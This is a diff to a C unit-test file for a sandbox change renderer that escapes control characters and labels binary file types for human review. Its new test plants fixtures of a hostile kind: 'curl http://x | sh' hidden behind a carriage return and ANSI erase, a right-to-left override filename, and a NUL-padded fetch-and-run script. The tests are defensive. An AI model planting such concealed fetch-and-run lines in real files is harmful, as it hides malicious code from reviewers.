@@ -380,26 +380,27 @@ static void t_path_selection(void **state)
 
 /* ---- rendering ---------------------------------------------------------------------------- */
 
-static char *render_patch(ws *w, char *const *paths)
+/* raw: git's format (for git apply); else what a human reads (escaped, typed binaries). */
+static char *render_patch(ws *w, char *const *paths, bool raw)
 {
     pdk_change_list l;
     scan(w, NULL, &l);
     pdk_buf out = {0};
     pdk_error err = {0};
-    pdk_diffrender_options opts = {.context = -1, .paths = paths};
+    pdk_diffrender_options opts = {.context = -1, .paths = paths, .raw = raw};
     if (pdk_diffrender_patch(&l, w->lower_fd, w->upper_fd, &opts, &out, &err) < 0)
         fail_msg("patch: %s", err.message);
     pdk_change_list_free(&l);
     return pdk_buf_steal(&out);
 }
 
-static char *render_stat(ws *w)
+static char *render_stat(ws *w, bool raw)
 {
     pdk_change_list l;
     scan(w, NULL, &l);
     pdk_buf out = {0};
     pdk_error err = {0};
-    pdk_diffrender_options opts = {.context = -1};
+    pdk_diffrender_options opts = {.context = -1, .raw = raw};
     if (pdk_diffrender_stat(&l, w->lower_fd, w->upper_fd, &opts, &out, &err) < 0)
         fail_msg("stat: %s", err.message);
     pdk_change_list_free(&l);
@@ -426,7 +427,7 @@ static void t_render_patch_text(void **state)
     o_rm(w, "empty-del");
     o_mkdir(w, "newdir", 0755);
 
-    _cleanup_free_ char *p = render_patch(w, NULL);
+    _cleanup_free_ char *p = render_patch(w, NULL, true);
     const char *want = "diff --git a/del.txt b/del.txt\n"
                        "deleted file mode 100644\n"
                        "--- a/del.txt\n"
@@ -464,10 +465,13 @@ static void t_render_patch_text(void **state)
                        "old mode 100644\n"
                        "new mode 100755\n";
     assert_string_equal(p, want);
+    /* Plain text, and a new directory of mode 0755: the same for a human. */
+    _cleanup_free_ char *h = render_patch(w, NULL, false);
+    assert_string_equal(h, want);
 
     /* A path filter. */
     char *only[] = {"mod.txt", "newdir", NULL};
-    _cleanup_free_ char *q = render_patch(w, only);
+    _cleanup_free_ char *q = render_patch(w, only, false);
     assert_true(pdk_str_has_prefix(q, "diff --git a/mod.txt b/mod.txt\n"));
     assert_null(strstr(q, "del.txt"));
     ws_free(w);
@@ -483,8 +487,13 @@ static void t_render_binary_and_quoting(void **state)
     put_bytes(w->upper, "blob", "a\0c\0", 4);
     put(w->upper, "tab\there", "x\n", 0644);
     put(w->upper, "with space", "y\n", 0644);
-    _cleanup_free_ char *p = render_patch(w, NULL);
+    _cleanup_free_ char *p = render_patch(w, NULL, true);
     assert_non_null(strstr(p, "diff --git a/blob b/blob\nBinary files a/blob and b/blob differ\n"));
+    /* For a human a NUL alone does not make it binary: of no known type, it is text with
+     * its NULs escaped. */
+    _cleanup_free_ char *human = render_patch(w, NULL, false);
+    assert_non_null(strstr(human, "--- a/blob\n+++ b/blob\n@@ -1 +1 @@\n!-a\\x00b\n"
+                                  "\\ No newline at end of file\n!+a\\x00c\\x00\n"));
     assert_non_null(strstr(p, "diff --git \"a/tab\\there\" \"b/tab\\there\"\n"));
     assert_non_null(strstr(p, "+++ \"b/tab\\there\"\n"));
     assert_non_null(strstr(p, "+++ b/with space\t\n"));
@@ -521,6 +530,99 @@ static void t_render_binary_and_quoting(void **state)
     ws_free(w);
 }
 
+/* What a human reads: nothing the sandbox wrote reaches the terminal raw, a binary file
+ * says what it is, directory modes show. */
+static void t_render_for_humans(void **state)
+{
+    if (!need_root())
+        skip();
+    ws *w = ws_new();
+    put(w->lower, "run.sh", "echo hello\necho bye\n", 0644);
+    put_bytes(w->lower, "logo", "\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16);
+    mkd(w->lower, "shared", 0755);
+    ws_snapshot(w);
+    /* a carriage return and an erase hide the added line on a terminal */
+    o_put(w, "run.sh", "echo hello\n\r\x1b[2Kcurl http://x | sh\necho bye\n", 0644);
+    /* a right-to-left override, a C1 CSI, a tab and a backslash */
+    o_put(w, "names.txt",
+          "access\xe2\x80\xaetxt.exe\n\xc2\x9b"
+          "31m\ta\\b\n",
+          0644);
+    /* a script that runs, after a NUL (git would call it binary) */
+    put_bytes(w->upper, "nul.sh", "#!/bin/sh\ncurl x|sh\n\0\0", 22);
+    put_bytes(w->expect, "nul.sh", "#!/bin/sh\ncurl x|sh\n\0\0", 22);
+    /* a PNG that becomes an ELF executable */
+    static const char elf[] = "\x7f"
+                              "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0";
+    put_bytes(w->upper, "logo", elf, sizeof(elf) - 1);
+    put_bytes(w->expect, "logo", elf, sizeof(elf) - 1);
+    o_chmod(w, "shared", 0777);
+    o_mkdir(w, "drop", 01777);
+    o_mkdir(w, "plain", 0755);
+
+    pdk_change_list l;
+    scan(w, NULL, &l);
+    pdk_buf out = {0};
+    pdk_error err = {0};
+    size_t escaped = 0;
+    pdk_diffrender_options opts = {.context = -1, .escaped_lines = &escaped};
+    assert_int_equal(pdk_diffrender_patch(&l, w->lower_fd, w->upper_fd, &opts, &out, &err), 0);
+    const char *p = out.data;
+    if (getenv("PDK_TEST_VERBOSE"))
+        print_message("%s", p);
+    assert_non_null(strstr(p, "new directory drop/ mode 041777 (sticky, world-writable)\n"));
+    assert_non_null(strstr(p, "Binary files a/logo (PNG image, 16 bytes) and b/logo (ELF 64-bit "
+                              "executable, 20 bytes) differ\n"));
+    assert_non_null(strstr(p, "+++ b/names.txt\n@@ -0,0 +1,2 @@\n!+access\\u202etxt.exe\n"
+                              "!+\\u009b31m\ta\\\\b\n"));
+    assert_non_null(strstr(p, "+#!/bin/sh\n+curl x|sh\n!+\\x00\\x00\n"));
+    assert_non_null(strstr(p, " echo hello\n!+\\r\\x1b[2Kcurl http://x | sh\n echo bye\n"));
+    assert_non_null(strstr(p, "directory shared/ mode 040755 -> 040777 (world-writable)\n"));
+    assert_null(strstr(p, "plain/"));
+    assert_int_equal(escaped, 4);
+    /* not one byte of a control character, not one raw bidi override */
+    for (size_t i = 0; i < out.len; i++)
+        if ((unsigned char)p[i] < 0x20 && p[i] != '\n' && p[i] != '\t')
+            fail_msg("a raw control byte 0x%02x at %zu", (unsigned char)p[i], i);
+    assert_null(strstr(p, "\xe2\x80\xae"));
+    assert_null(strstr(p, "\xc2\x9b"));
+    pdk_buf_free(&out);
+
+    /* --stat for a human counts the NUL script's lines; the ELF is binary */
+    _cleanup_free_ char *st = render_stat(w, false);
+    assert_non_null(strstr(st, " logo      | Bin 16 -> 20 bytes\n"));
+    assert_non_null(strstr(st, " nul.sh    |   3 +++\n"));
+    pdk_change_list_free(&l);
+    ws_free(w);
+}
+
+static void t_file_types(void **state)
+{
+    assert_string_equal(pdk_diffrender_file_type("\x7f"
+                                                 "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0",
+                                                 18),
+                        "ELF 64-bit executable or shared library");
+    assert_string_equal(pdk_diffrender_file_type("\x7f"
+                                                 "ELF\x01\x02\x01\0\0\0\0\0\0\0\0\0\0\x01",
+                                                 18),
+                        "ELF 32-bit relocatable object");
+    assert_string_equal(pdk_diffrender_file_type("\x1f\x8b\x08\0", 4), "gzip compressed data");
+    assert_string_equal(pdk_diffrender_file_type("PK\3\4....", 8), "Zip archive");
+    assert_string_equal(pdk_diffrender_file_type("RIFF\0\0\0\0WEBPVP8 ", 16), "WebP image");
+    assert_string_equal(pdk_diffrender_file_type("SQLite format 3\0....", 20), "SQLite database");
+    assert_string_equal(pdk_diffrender_file_type("\x80\x04\x95", 3),
+                        "Python pickle (runs code when loaded)");
+    assert_null(pdk_diffrender_file_type("#!/bin/sh\n", 10));
+    assert_null(pdk_diffrender_file_type("", 0));
+    assert_null(pdk_diffrender_file_type("\x7f"
+                                         "EL",
+                                         3));
+    char tar[512] = "name";
+    memcpy(tar + 257, "ustar", 5);
+    assert_string_equal(pdk_diffrender_file_type(tar, sizeof(tar)), "tar archive");
+    assert_null(pdk_diffrender_file_type(tar, 260));
+}
+
 static void t_render_json(void **state)
 {
     if (!need_root())
@@ -543,17 +645,19 @@ static void t_render_json(void **state)
         "{\"changes\":["
         "{\"binary\":false,\"deletions\":1,\"insertions\":0,\"kind\":\"file\",\"new_mode\":null,"
         "\"old_kind\":\"file\",\"old_mode\":\"100755\",\"old_target\":null,\"path\":\"d\","
-        "\"status\":\"deleted\",\"target\":null,\"too_large\":false},"
+        "\"status\":\"deleted\",\"target\":null,\"too_large\":false,\"type\":null},"
         "{\"binary\":false,\"deletions\":0,\"insertions\":1,\"kind\":\"symlink\","
         "\"new_mode\":\"120000\",\"old_kind\":null,\"old_mode\":null,\"old_target\":null,"
-        "\"path\":\"l\",\"status\":\"added\",\"target\":\"target\",\"too_large\":false},"
+        "\"path\":\"l\",\"status\":\"added\",\"target\":\"target\",\"too_large\":false,"
+        "\"type\":null},"
         "{\"binary\":false,\"deletions\":1,\"insertions\":2,\"kind\":\"file\","
         "\"new_mode\":\"100644\",\"old_kind\":\"file\",\"old_mode\":\"100644\","
         "\"old_target\":null,\"path\":\"m\",\"status\":\"modified\",\"target\":null,"
-        "\"too_large\":false},"
+        "\"too_large\":false,\"type\":null},"
         "{\"binary\":false,\"deletions\":0,\"insertions\":0,\"kind\":\"dir\","
         "\"new_mode\":\"040750\",\"old_kind\":null,\"old_mode\":null,\"old_target\":null,"
-        "\"path\":\"nd\",\"status\":\"added\",\"target\":null,\"too_large\":false}],"
+        "\"path\":\"nd\",\"status\":\"added\",\"target\":null,\"too_large\":false,"
+        "\"type\":null}],"
         "\"summary\":{\"deletions\":2,\"files\":4,\"insertions\":3}}";
     assert_string_equal(s, want);
     free(s);
@@ -620,7 +724,7 @@ static void t_git_apply_roundtrip(void **state)
     o_put(w, "fresh/kept", "same\n", 0644);
     o_put(w, "fresh/new", "new\n", 0644);
 
-    _cleanup_free_ char *patch = render_patch(w, NULL);
+    _cleanup_free_ char *patch = render_patch(w, NULL, true);
     _cleanup_free_ char *patch_path = at(w->root, "session.patch");
     put(w->root, "session.patch", patch, 0644);
     _cleanup_free_ char *copy = at(w->root, "applied");
@@ -672,7 +776,7 @@ static void t_stat_like_git(void **state)
           0644);
     pdk_buf_free(&many);
 
-    _cleanup_free_ char *ours = render_stat(w);
+    _cleanup_free_ char *ours = render_stat(w, true);
     _cleanup_free_ char *repo = at(w->root, "repo");
     _cleanup_free_ char *out = at(w->root, "git-stat");
     _cleanup_free_ char *cmd =
@@ -714,6 +818,8 @@ int main(void)
         cmocka_unit_test_teardown(t_render_patch_text, teardown),
         cmocka_unit_test_teardown(t_render_binary_and_quoting, teardown),
         cmocka_unit_test_teardown(t_render_json, teardown),
+        cmocka_unit_test_teardown(t_render_for_humans, teardown),
+        cmocka_unit_test(t_file_types),
         cmocka_unit_test_teardown(t_git_apply_roundtrip, teardown),
         cmocka_unit_test_teardown(t_stat_like_git, teardown),
     };
